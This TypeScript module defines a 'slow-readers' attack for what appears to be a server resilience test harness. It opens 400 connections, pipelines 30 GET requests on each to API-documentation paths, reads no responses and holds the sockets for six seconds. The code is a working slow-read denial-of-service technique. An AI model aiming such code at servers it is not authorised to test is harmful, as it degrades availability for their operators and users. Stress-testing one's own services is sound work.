import type { Attack } from './attack.ts';
import { headOf } from './requests.ts';
import { delay, destroyAll, openMany } from './sockets.ts';

const CONNECTIONS = 400;
const REQUESTS = 30;
const PATHS = ['/docs/scalar.js', '/openapi.json', '/metrics', '/docs'];
const HOLD_MS = 6_000;

export const slowReaders: Attack = {
  name: 'slow-readers',
  about: `${CONNECTIONS} connections that ask ${REQUESTS} times and read no answer`,
  run: async (target) => {
    const sockets = await openMany(target, CONNECTIONS);
    for (const [index, socket] of sockets.entries()) {
      socket.pause();
      socket.write(headOf('GET', PATHS[index % PATHS.length] ?? '/').repeat(REQUESTS));
    }
    await delay(HOLD_MS);
    destroyAll(sockets);
    return `${CONNECTIONS * REQUESTS} requests`;
  },
};
